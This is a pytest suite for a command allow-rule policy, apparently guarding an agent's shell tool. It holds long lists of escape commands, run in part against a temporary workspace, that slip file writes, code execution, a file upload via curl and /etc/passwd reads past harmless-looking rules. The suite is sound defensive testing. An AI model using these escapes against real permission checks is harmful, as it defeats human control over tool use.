"""Allow rules on commands: what they cover behind their own words, and what they do not.

Each escape begins with the words of a harmless rule and makes the file ``pwned``. Without a guard it must succeed, or the row
proves nothing. The neighbours are what authors of such rules expect to work.
"""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from toolkit.errors import PolicyError
from toolkit.guard import Permission, Preview, Rule, SecurityPolicy, Verdict

EXECUTE: tuple[Permission, ...] = ("execute",)
PATH = "/usr/local/bin:/usr/bin:/bin"


def judge(rule: str, command: str | list[str], cwd: str = ".", variables: tuple[str, ...] = ()) -> Verdict:
    text, argv = (command, None) if isinstance(command, str) else (None, tuple(command))
    rules: list[Rule[str]] = [Rule("allow", command=words) for words in rule.split(" | ")]
    preview = Preview(shell=text, argv=argv, cwd=cwd, variables=variables)
    return SecurityPolicy("deny", rules=rules)._judge("bash", EXECUTE, preview)


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    files = {
        "f": "b\na\n",
        "Makefile": "test:\n\t@true\ndeploy:\n\ttouch pwned\n",
        "evil.mk": "test:\n\ttouch pwned\n",
        "evil/Makefile": "test:\n\ttouch ../pwned\n",
        "ok.sh": "#!/bin/sh\n",
        "evil/ok.sh": "#!/bin/sh\ntouch ../pwned\n",
        "script.py": "",
        "evil/script.py": "open('../pwned', 'w')\n",
        "code.py": "open('pwned', 'w')\n",
        "touch.sh": "#!/bin/sh\ntouch pwned\n",
        "package.json": '{"scripts": {"test": "true"}}',
        "code.js": "require('fs').writeFileSync('pwned', '')\n",
        "0/ls": "#!/bin/sh\n/usr/bin/touch pwned\n",
        "evil.git/hooks/pre-receive": "#!/bin/sh\ntouch ../pwned\n",
        "remote/hooks/pre-receive": "#!/bin/sh\ntouch ../pwned\n",
    }
    for name, content in files.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(content)
        (tmp_path / name).chmod(0o755)
    (tmp_path / "evil/b").mkdir()
    (tmp_path / "evil/b/g").symlink_to("../../pwned")
    for command in (
        "git init -q",
        "git add f",
        "git -c user.name=n -c user.email=e@example.org commit -qm first",
        "tar cf x.tar f",
        "cp x.tar ./--",
        "git init -q --bare evil.git",
        "git init -q --bare remote",
    ):
        subprocess.run(["bash", "-c", command], cwd=tmp_path, check=True)
    return tmp_path


ESCAPES: list[tuple[str, str | list[str]]] = [
    ("printf", "printf -v 'a[$(touch pwned)]' x"),
    ("test", "test -v 'a[$(touch pwned)]'"),
    ("sort", "sort -o pwned f"),
    ("sort", "sort -uo pwned f"),
    ("sort", "sort -uopwned f"),
    ("sort", "sort --output=pwned f"),
    ("sort", "sort --outp=pwned f"),
    ("sort", "sort f --out pwned"),
    ("sort -u", "sort -u -o pwned f"),
    ("/usr/bin/sort", "/usr/bin/sort -o pwned f"),
    ("uniq", "uniq f pwned"),
    ("uniq", "uniq -c -- f pwned"),
    ("shuf", "shuf -o pwned f"),
    ("xxd", "xxd f pwned"),
    ("xxd", "xxd -ps f pwned"),
    ("xxd", "xxd -pl f pwned"),
    ("git log", "git log --output=pwned"),
    ("git diff", "git diff --output pwned HEAD"),
    ("git show", "git show -p --output=pwned"),
    ("git", "git log --output=pwned"),
    ("git", "git archive -o pwned HEAD"),
    ("git archive", "git archive -o pwned HEAD"),
    ("git", "git -c 'alias.x=!touch pwned' x"),
    ("git", "git -c core.fsmonitor=./touch.sh status"),
    ("git status", ["git", "-c", "core.fsmonitor=./touch.sh", "status"]),
    ("git grep", "git grep -O./touch.sh b"),
    ("git grep", "git grep --open-files=./touch.sh b"),
    ("git", "git config x.y z && git bundle create pwned HEAD"),
    ("tar", "tar cf pwned f"),
    ("tar", "tar -cf pwned f"),
    ("tar", "tar --creat --file=pwned f"),
    ("tar", "tar --to-comm='touch pwned' -xf x.tar"),
    ("tar tf", "tar tf x.tar -I ./touch.sh"),
    ("tar tf", "tar tf x.tar --use-comp=./touch.sh"),
    ("tar tf", "tar tf x.tar --checkpoint=1 '--checkpoint-action=exec=touch pwned'"),
    ("tar", "tar tf -- -I ./touch.sh"),
    ("tar tf", "tar tf -- --checkpoint=1 '--checkpoint-action=exec=touch pwned'"),
    ("tar -tf", "tar -tf -- -I ./touch.sh"),
    ("find", "find . -maxdepth 0 -exec touch pwned ';'"),
    ("find", "find . -maxdepth 0 -fprint pwned"),
    ("find . -name f", "find . -name f -fprintf pwned x"),
    ("sed", "sed -n 'w pwned' f"),
    ("sed", "sed '1e touch pwned' f"),
    ("sed", "sed 's/b/touch pwned/e' f"),
    ("sed", "sed 's|b|x|w pwned' f"),
    ("sed", "sed -n '1p;w pwned' f"),
    ("sed", "sed -ne p -e 'w pwned' f"),
    ("sed", "sed --expr='w pwned' f"),
    ("sed", "sed -- 'w pwned' f"),
    ("sed", "sed 's/[/]/;s/w evil/b/g' f"),
    ("awk", "awk 'BEGIN{system(\"touch pwned\")}'"),
    ("echo | tee", "echo x | tee pwned"),
    ("echo | python3", "echo 'open(\"pwned\",\"w\")' | python3"),
    ("echo | python3", "echo 'open(\"pwned\",\"w\")' | python3 -"),
    ("echo | python3", "echo 'open(\"pwned\",\"w\")' | python3 -u"),
    ("echo | python3", "echo 'open(\"pwned\",\"w\")' | python3 /dev/stdin"),
    ("echo | python3", "echo 'open(\"pwned\",\"w\")' | python3 /usr/../dev/stdin"),
    ("python3", ["python3", "-c", "open('pwned', 'w')"]),
    ("python3", ["python3", "-Bc", "open('pwned', 'w')"]),
    ("python3", "python3 -m code && touch pwned"),
    ("cat | node", "cat code.js | node"),
    ("cat | node", "cat code.js | node -"),
    ("node", ["node", "-e", "require('fs').writeFileSync('pwned', '')"]),
    ("node", "node -r ./code.js script.py"),
    ("perl", ["perl", "-e", "open(F, '>pwned')"]),
    ("make test", "make test deploy"),
    ("make test", "make test -f evil.mk"),
    ("make test", "make test -C evil"),
    ("make test", ["make", "test", "--eval=$(shell touch pwned)"]),
    ("make test", ["make", "test", "--ev=$(shell touch pwned)"]),
    ("make", ["make", "test", "SHELL=./touch.sh"]),
    ("npm test", "npm test --script-shell=./touch.sh"),
    ("ls", "ls; touch pwned"),
    ("ls", "ls > pwned"),
    ("cd | ./ok.sh", "cd evil && ./ok.sh"),
    ("cd | make test", "cd evil; make test"),
    ("cd | python3 script.py", "cd evil && python3 script.py"),
    ("zip", ["zip", "-q", "out.zip", "f", "-T", "-TT", "touch pwned;"]),
    ("git push", "git push evil.git HEAD:refs/heads/x"),
    ("git push", "git push ./evil.git HEAD:refs/heads/x"),
    ("git push", "git push -q -- remote HEAD:refs/heads/x"),
    ("git push -q", "git push -q remote HEAD:refs/heads/x"),
    ("git", "git push remote HEAD:refs/heads/x"),
    ("jobs", "jobs -x touch pwned"),
    ("history", "history -w pwned"),
    ("printf | ls", "printf '%n' PATH; ls"),
    ("printf | ls", "printf -- '%5n' PATH && ls"),
    ("ruby", ["ruby", "-v", "-e", "File.write('pwned', '')"]),
    ("lua", ["lua", "-v", "-e", "io.open('pwned', 'w')"]),
]  # fmt: skip


def name(row: object) -> str:
    return row if isinstance(row, str) else " ".join(map(str, row)) if isinstance(row, list) else ""


@pytest.mark.every_row
@pytest.mark.parametrize(("rule", "command"), ESCAPES, ids=name)
def test_options_that_write_or_run_are_not_covered(rule: str, command: str | list[str]) -> None:
    assert judge(rule, command).decision == "deny"


@pytest.mark.sample(every=8)
@pytest.mark.parametrize(("rule", "command"), ESCAPES, ids=name)
def test_and_would_have_written_or_run(workspace: Path, rule: str, command: str | list[str]) -> None:
    program = rule.split(" | ")[-1].split()[0]
    if program not in ("./ok.sh", "history", "jobs") and shutil.which(program, path=PATH) is None:
        pytest.skip(f"this machine has no {program}")
    argv = ["bash", "--noprofile", "--norc", "-c", command] if isinstance(command, str) else command
    subprocess.run(
        argv,
        cwd=workspace,
        capture_output=True,
        timeout=60,
        stdin=subprocess.DEVNULL,
        env={"PATH": PATH, "HOME": str(workspace)},
    )
    assert (workspace / "pwned").exists()


# Not run here: these need a program, a version of it or a host that a machine may lack.
OTHER_ESCAPES: list[tuple[str, str | list[str]]] = [
    ("git log", "git log --outpu=pwned"),
    ("git archive", "git archive --outp=pwned HEAD"),
    ("git diff", "git diff --ext-diff"),
    ("git diff", "git diff --no-index /etc/passwd f"),
    ("git log", "git log --show-signature"),
    ("git fetch", "git fetch --upload-pack=./touch.sh ."),
    ("git push", "git push --receive-pack=./touch.sh . HEAD"),
    ("git push", "git push --force"),
    ("git push", "git push origin +main"),
    ("git push", "git push origin :main"),
    ("git push", "git push -u -- origin +main"),
    ("git push origin", "git push origin +main"),
    ("git", "git submodule foreach ./touch.sh"),
    ("git submodule", "git submodule foreach ./touch.sh"),
    ("git", "git bisect run ./touch.sh"),
    ("git", "git config core.pager ./touch.sh"),
    ("git", "git remote-ext x ./touch.sh"),
    ("git", "git -C evil status"),
    ("git", "git --git-dir=evil log"),
    ("git", "git --exec-path=evil log"),
    ("rg", "rg --pre ./touch.sh b"),
    ("rg", "rg --hostname-bin=./touch.sh b"),
    ("rg", "rg -z b"),
    ("rg", "rg -nz b"),
    ("fd", "fd -x ./touch.sh"),
    ("fd", "fd -Hx ./touch.sh"),
    ("fd", "fd --exec-batch ./touch.sh"),
    ("tar tf", "tar tf host:x.tar"),
    ("tar tf", "tar tf x.tar --rsh-command=./touch.sh"),
    ("tree", "tree -o pwned"),
    ("tree", "tree -afo pwned"),
    ("tree", "tree -Lo 2 pwned"),
    ("tree", "tree -P -- -o pwned"),
    ("tree", "tree -aI -- -o pwned"),
    ("curl", "curl -o pwned https://example.org"),
    ("curl", "curl -so pwned https://example.org"),
    ("curl", "curl --outp pwned https://example.org"),
    ("curl", "curl -K evil https://example.org"),
    ("curl", "curl file:///etc/passwd"),
    ("curl", "curl -d @f https://example.org"),
    ("wget", "wget https://example.org"),
    ("less", "less '+!touch pwned' f"),
    ("less", "less -opwned f"),
    ("man", "man -P ./touch.sh ls"),
    ("ruby", "ruby -e 'x'"),
    ("ruby", "ruby"),
    ("python3", "python3"),
    ("python3", "python3 -i script.py"),
    ("python3", "python3 -X importtime=1 script.py"),
    ("python3.12", "python3.12 -c x"),
    ("pypy3", "pypy3 -c x"),
    ("ipython", "ipython"),
    ("python3 -m pytest", "python3 -m pytest -p evil"),
    ("pytest", "pytest -p evil"),
    ("pytest", "pytest -- -p evil"),
    ("python3 -m pytest", "python3 -m pytest -- -pevil"),
    ("pytest", "pytest -c evil.ini"),
    ("pytest", "pytest --rootdir evil"),
    ("pytest", "pytest -o python_files=evil.py"),
    ("pytest", "pytest --junitxml=pwned"),
    ("pytest", "pytest @evil.txt"),
    ("cargo test", "cargo test --config 'target.x.runner=\"./touch.sh\"'"),
    ("cargo test", "cargo test --manifest-path evil/Cargo.toml"),
    ("cargo test", "cargo test -- --logfile pwned"),
    ("cargo", "cargo +evil test"),
    ("go test", "go test -exec ./touch.sh ./..."),
    ("go test", "go test --exec=./touch.sh ./..."),
    ("go vet", "go vet -vettool=./touch.sh"),
    ("go build", "go build -o pwned"),
    ("go build", "go build -toolexec ./touch.sh"),
    ("npm test", "npm test -- --config=evil.js"),
    ("npm test", ["npm", "test", "$(touch pwned)"]),
    ("npm run", ["npm", "run", "build", "; touch pwned"]),
    ("npm run build", "npm run build --script-sh=./touch.sh"),
    ("file", "file -C -m pwned"),
    ("./git", "./git log --output=pwned"),
    ("git push", "git push file:///evil.git"),
    ("git push", "git push https://example.org/x.git"),
    ("git push", "git push host:x.git"),
    ("git fetch", "git fetch ./evil"),
    ("git fetch", "git fetch evil"),
    ("git fetch", "git fetch -j 4 evil"),
    ("git fetch", "git fetch --depth 1 5"),
    ("git fetch", "git fetch 'ext::sh -c x'"),
    ("git fetch", "git fetch file:///evil"),
    ("git pull", "git pull ./evil"),
    ("git pull", "git pull . main"),
    ("git pull", "git pull --rebase evil main"),
    ("git clone", "git clone evil there"),
    ("git ls-remote", "git ls-remote ./evil"),
    ("git reflog", "git reflog delete 'HEAD@{0}'"),
    ("git reflog", "git reflog expire --all"),
    ("git reflog", "git reflog drop --all"),
    ("git reflog", "git reflog write HEAD a b c"),
    ("git", "git reflog -q expire --all"),
    ("git stash", "git stash drop"),
    ("git stash", "git stash clear"),
    ("git log", "git log --format=%GS"),
    ("git log", "git log --pretty 'x%G?'"),
    ("ruby", "ruby -v -"),
    ("ruby", "ruby -v script.rb"),
    ("ruby -v", "ruby -v -e x"),
    ("lua", "lua -v -"),
    ("lua5.4", "lua5.4 -v -e x"),
    ("perl", "perl -v -e x"),
    ("php", "php -v -r x"),
    ("node", "node -v -e x"),
    ("node", "node --version -e x"),
    ("python3", "python3 -V -c x"),
    ("python3", "python3 --version -c x"),
    ("npm", "npm exec touch pwned"),
    ("npm", "npm --silent exec touch pwned"),
    ("npm", "npm init evil"),
    ("pnpm", "pnpm touch pwned"),
    ("pnpm", "pnpm dlx evil"),
    ("yarn", "yarn exec touch pwned"),
    ("bun", "bun x touch pwned"),
    ("uv", "uv run touch pwned"),
    ("uv", "uv tool run evil"),
    ("poetry", "poetry -q run touch pwned"),
    ("conda", "conda run -n base touch pwned"),
    ("split", "split --filter='touch pwned' f"),
    ("rsync", "rsync -e 'touch pwned' f host:"),
    ("printf", "printf '%*n' 1 PATH"),
    ("printf", "printf '%ln' PATH"),
    ("git fetch", "git fetch origin +main:main"),
    ("/usr/lib/git-core/git-push", "/usr/lib/git-core/git-push evil"),
    ("git-log", "git-log --output=pwned"),
    ("git pull", "git pull origin +main:main"),
    ("date", "date 010100002030"),
    ("date", "date -u 0101"),
    ("bun", "bun -e 'x'"),
    ("bun", "bun --print x"),
    ("luajit", "luajit -e x"),
    ("Rscript", "Rscript -e x"),
    ("julia", "julia -E x"),
    ("julia", "julia"),
    ("tclsh", "tclsh"),
    ("guile", "guile -c x"),
    ("elixir", "elixir -e x"),
    ("racket", "racket -e x"),
    ("deno", "deno eval x"),
]  # fmt: skip


@pytest.mark.every_row
@pytest.mark.parametrize(("rule", "command"), OTHER_ESCAPES, ids=name)
def test_other_options_that_write_or_run_are_not_covered(rule: str, command: str | list[str]) -> None:
    assert judge(rule, command).decision == "deny"


def test_pytest_loads_a_module_behind_dashes(tmp_path: Path) -> None:
    """The control of two rows above; the pytest is that of this interpreter."""
    (tmp_path / "evil.py").write_text("open('pwned', 'w')\n")
    argv = [sys.executable, "-m", "pytest", "--", "-pevil"]
    subprocess.run(argv, cwd=tmp_path, capture_output=True, timeout=60)
    assert (tmp_path / "pwned").exists()


NEIGHBOURS: list[tuple[str, str | list[str]]] = [
    ("git log", "git log"), ("git log", "git log -1"), ("git log", "git log --oneline -n 5"), ("git log", "git log --stat -- src"),
    ("git log", "git log -p -U3 --since=yesterday --author 'A B' main..dev"), ("git log", "git log --format='%h %s' -- -odd-name"),
    ("git", "git --no-pager log --graph --all"), ("git -C sub log", "git -C sub log -1"), ("/usr/bin/git log", "/usr/bin/git log -1"),
    ("git diff", "git diff --cached"), ("git diff", "git diff 'HEAD~1' --name-only"), ("git diff", "git diff -w --stat=80"),
    ("git status", "git status --short"), ("git status", "git status -sb"), ("git status", "git status --porcelain=v1 -uno"),
    ("git show", "git show HEAD:f"), ("git branch", "git branch -vv"), ("git blame", "git blame -L 1,5 f"), ("git grep", "git grep -n 'a b'"),
    ("git add", "git add -A"), ("git commit", "git commit -am 'a message'"), ("git push", "git push -u origin main"), ("git push", "git push origin HEAD:refs/heads/x"),
    ("git stash", "git stash push -m x"), ("git rev-parse", "git rev-parse --abbrev-ref HEAD"), ("git remote", "git remote -v"),
    ("git archive -o a.zip HEAD", "git archive -o a.zip HEAD"), ("git submodule status", "git submodule status"),
    ("ls", "ls -la"), ("ls", "ls --color=never -R src"), ("cat", "cat a b"), ("cat", "cat -A -- -odd"), ("grep", "grep -rn x src"),
    ("grep", "grep -E '^(a|b)$' --include='*.py' -r ."), ("rg", "rg -n x"), ("rg", "rg -g '*.py' -A3 --type py 'def x' src"),
    ("pytest", "pytest -q tests"), ("pytest", "pytest -x -k 'a and not b' --tb=short tests/a.py::test_b"), ("pytest", "pytest -rA -n 4"),
    ("python3 -m pytest", "python3 -m pytest -q tests"), ("npm test", "npm test"), ("npm run", "npm run build --silent"),
    ("cargo test", "cargo test --lib"), ("cargo test", "cargo test -p core -- --nocapture"), ("cargo", "cargo build --release"),
    ("make test", "make test"), ("make test", "make test -j4"), ("make test", "make test -j 4 -k"), ("make", "make lint docs/x.html"),
    ("go test", "go test -v -run TestX -count=1 ./..."), ("head", "head -n 5 f"), ("head", "head -n -5 f"), ("tail", "tail -20 f"),
    ("wc", "wc -l"), ("sort", "sort -u"), ("sort", "sort -t, -k2,2n -k 3 --reverse f"), ("uniq", "uniq -c"), ("find", "find . -name '*.py' -type f"),
    ("find", "find src -mtime -1 -size +5k -not -path './x/*' -print0"), ("find", ["find", ".", "(", "-name", "a", "-o", "-name", "b", ")"]),
    ("sed", "sed -n 1,5p f"), ("sed", "sed -n '/start/,/end/p' f"), ("sed", "sed 's/a/b/g; s#x/y#z#' f"), ("sed", "sed -n '$='"), ("sed", "sed '1d;$d' f"),
    ("sed", "sed 's/[[:space:]]*$//; s|[^a-z]/|x|g' f"), ("sed", "sed -E 's/(a|b)\\./x/2p' f"), ("awk '{print $1}'", "awk '{print $1}' f"), ("tar", "tar tf x.tar"), ("tar", "tar -tvzf x.tgz src"),
    ("tar xf", "tar xf x.tar"), ("python3", "python3 script.py"), ("python3", "python3 -u script.py -c --output=x"), ("python3", "python3 --version"),
    ("python3 script.py", "python3 script.py --any option"), ("python3 -c 'print(1)'", "python3 -c 'print(1)'"), ("node", "node app.js --port 1"),
    ("perl", "perl -w script.pl"), ("echo", "echo -n 'a b'"), ("printf", "printf '%s\\n' -v x"), ("test", "test -f f -a 3 -gt 2"), ("jq", "jq -r .a f.json"),
    ("curl", "curl -sSfL https://example.org/x"), ("curl", "curl localhost:8080/x"), ("date", "date -u +%F"), ("tree", "tree -L 2 -a --gitignore"),
    ("fd", "fd -e py -t f x"), ("./ok.sh", "./ok.sh --any option"), ("mytool", "mytool --any --option=x -y"), ("eslint", "eslint --fix src"),
    ("ls | wc", "ls -a | wc -l"), ("cd | ls | cat", "cd src && ls -l && cat f"), ("du", "du -sh ."), ("xxd", "xxd -p -l16 f"), ("xxd", "xxd f"), ("diff", "diff -u a b"),
    ("git push", "git push"), ("git push", "git push -q upstream main"), ("git push fork", "git push fork main"), ("git", "git push origin main"),
    ("git fetch", "git fetch --depth 1 origin main"), ("git fetch", "git fetch -j 4 --all"), ("git pull", "git pull --rebase origin main"), ("git pull", "git pull --ff-only"),
    ("git clone ./a b", "git clone ./a b"), ("git reflog", "git reflog"), ("git reflog", "git reflog show main -n 5"), ("git reflog expire", "git reflog expire --all"),
    ("git stash", "git stash list"), ("git stash", "git stash pop"), ("git stash drop", "git stash drop"),
    ("ruby", "ruby -v"), ("ruby", "ruby -w script.rb -v"), ("node", "node --version"), ("perl", "perl -w -v"), ("python3", "python3 -VV"), ("python3", "python3 s.py -V -c"),
    ("npm", "npm install --silent"), ("npm", "npm run build"), ("npm exec", "npm exec jest"), ("pnpm", "pnpm install"), ("pnpm", "pnpm run build"), ("pnpm", "pnpm --silent test"),
    ("pnpm build", "pnpm build"), ("yarn", "yarn build"), ("uv", "uv sync --frozen"), ("uv run pytest", "uv run pytest -q"), ("uv run", "uv run pytest"), ("poetry", "poetry install"),
    ("jobs", "jobs -l"), ("history", "history 5"), ("split", "split -l 5 f"), ("rsync", "rsync -av a b"),
    ("printf", "printf '%s\\n' x"), ("printf", "printf '%d%%\\n' 5"), ("date", "date"), ("date", "date -d yesterday +%s"), ("bun", "bun install"), ("julia", "julia script.jl -e x"),
    ("Rscript", "Rscript x.R"), ("deno", "deno lint"), ("git-log", "git-log -1"), ("git-lfs", "git-lfs ls-files"), ("deno eval", "deno eval 1"),
]  # fmt: skip


@pytest.mark.parametrize(("rule", "command"), NEIGHBOURS, ids=name)
def test_what_authors_of_rules_expect_is_covered(rule: str, command: str | list[str]) -> None:
    verdict = judge(rule, command)
    assert verdict.decision == "allow", verdict.because


PLACES: list[tuple[str, str | list[str], str, bool]] = [
    ("./ok.sh", "./ok.sh", ".", True),
    ("./ok.sh", "./ok.sh", "", True),
    ("./ok.sh", "./ok.sh", "././", True),
    ("./ok.sh", "./ok.sh", "evil", False),
    ("./ok.sh", "./ok.sh", "./evil", False),
    ("./ok.sh", "./ok.sh", "evil/..", False),
    ("./ok.sh", "./ok.sh", "/evil", False),
    ("./ok.sh", ["./ok.sh"], "evil", False),
    ("bin/ls", "bin/ls", "evil", False),
    ("make test", "make test", "evil", False),
    ("python3 script.py", "python3 script.py", "evil", False),
    ("git log", "git log", "evil", False),
    ("mytool", "mytool", "evil", False),
    ("ls", "ls -la", "src", True),
    ("/bin/ls", "/bin/ls", "src", True),
    ("grep", ["grep", "-rn", "x"], "src", True),
]


@pytest.mark.parametrize(("rule", "command", "cwd", "covered"), PLACES)
def test_only_harmless_programs_are_covered_elsewhere(
    rule: str, command: str | list[str], cwd: str, covered: bool
) -> None:
    assert judge(rule, command, cwd).decision == ("allow" if covered else "deny")


@pytest.mark.every_row
@pytest.mark.parametrize(
    ("variable", "covered"),
    [
        *((name, True) for name in ("LANG", "LC_ALL", "TZ", "CI", "NO_COLOR", "PYTHONUNBUFFERED", "COLUMNS")),
        *((name, False) for name in ("TAR_OPTIONS", "RIPGREP_CONFIG_PATH", "XDG_CONFIG_HOME", "CC", "PIP_INDEX_URL")),
        *((name, False) for name in ("npm_config_script_shell", "GOFLAGS", "RUSTC", "LANGUAGE", "lang", "LC_", "")),
    ],
)  # fmt: skip
def test_only_harmless_variables_are_covered(variable: str, covered: bool) -> None:
    verdict = judge("tar", ["tar", "tf", "x.tar"], variables=("TZ", variable))
    assert verdict.decision == ("allow" if covered else "deny")


@pytest.mark.parametrize(
    ("rule", "command", "reason"),
    [
        ("git log", "git log --output=secret", "Rule('allow', command='git log'): it does not cover '--output'"),
        ("sort", "sort -uo secret", "Rule('allow', command='sort'): it does not cover '-uo'"),
        ("uniq", "uniq f secret", "Rule('allow', command='uniq'): it does not cover one of its arguments"),
        ("python3", "python3", "Rule('allow', command='python3'): it does not cover python3 without a script: it would run its input"),
        ("node", "node", "Rule('allow', command='node'): it does not cover node without a script: it would run its input"),
        ("awk", "awk", "Rule('allow', command='awk'): it does not cover awk without a program in the rule's own words"),
        ("git push", "git push ./secret HEAD", "Rule('allow', command='git push'): it covers only the remotes origin and upstream:"
            " another name may be a path, whose hooks would run; name the remote in the rule"),
        ("git fetch", "git fetch secret", "Rule('allow', command='git fetch'): it covers only the remotes origin and upstream:"
            " another name may be a path, whose hooks would run; name the remote in the rule"),
        ("ls", "ls $(secret)", "allow rules on commands cover only plain words joined by && || ; |"),
        ("cd | ./ok.sh", "cd x; ./ok.sh", "Rule('allow', command='./ok.sh'): it covers this program only in the workspace's own"
            " directory: start it there, without cwd or cd, and give paths from there"),
        ("git diff", "cd x && git diff", "Rule('allow', command='git diff'): it covers only a part of what is run"),
        ("git diff", "git diff | head -5", "Rule('allow', command='git diff'): it covers only a part of what is run"),
    ],
)  # fmt: skip
def test_the_verdict_says_what_is_not_covered(rule: str, command: str, reason: str) -> None:
    because = judge(rule, command).because
    assert because.startswith(f"the policy's default is deny ({reason}")
    assert "secret" not in because
    # A rule about something else is no reason.
    assert judge("wc", command.replace("$(secret)", "x")).because == "the policy's default is deny"


@pytest.mark.parametrize(
    "command",
    [
        ["sed", " " * 100_000 + "w"],
        ["sed", "p" + " " * 50_000 + ";" + " " * 50_000 + "w"],
        ["sed", "s/" + "[a]" * 40_000],
        ["sort", *["-u"] * 300_000, "-o", "x"],
        ["git", *["--no-pager"] * 90_000, "log", "--output=x"],
        ["python3" + "1" * 100_000 + "x"],
    ],
    ids=lambda command: command[0][:8],
)
def test_long_commands_are_judged_in_linear_time(command: list[str]) -> None:
    """With quadratic time these would take minutes."""
    assert judge("sed | sort | git", command).decision == "deny"


def test_every_program_of_a_rule_that_runs_others_is_refused() -> None:
    for words in (
        "env",
        "/usr/bin/env",
        "sh",
        "xargs",
        "sudo",
        "flock",
        "export",
        "alias",
        "read",
        "set",
        ".",
        "ccache",
        "fakeroot-sysv",
        "sem",
    ):
        with pytest.raises(PolicyError, match="no rule can allow"):
            Rule("allow", command=words)
